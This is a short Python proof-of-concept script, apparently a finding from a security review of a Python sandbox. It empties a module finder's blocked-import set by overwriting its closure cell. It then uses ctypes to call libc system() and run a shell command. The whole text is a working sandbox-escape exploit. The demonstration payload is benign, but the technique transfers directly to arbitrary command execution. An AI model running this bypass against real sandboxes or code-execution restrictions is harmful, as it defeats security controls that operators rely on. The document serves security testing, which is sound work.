# Review 2, finding 2: empty the blocked set through a finder's closure cell.
import sys
for f in sys.meta_path:
    c = getattr(getattr(f, 'find_spec', None), '__closure__', None)
    if c:
        c[0].cell_contents = frozenset()
import ctypes
print(ctypes.CDLL(None).system(b"echo PWNED"))
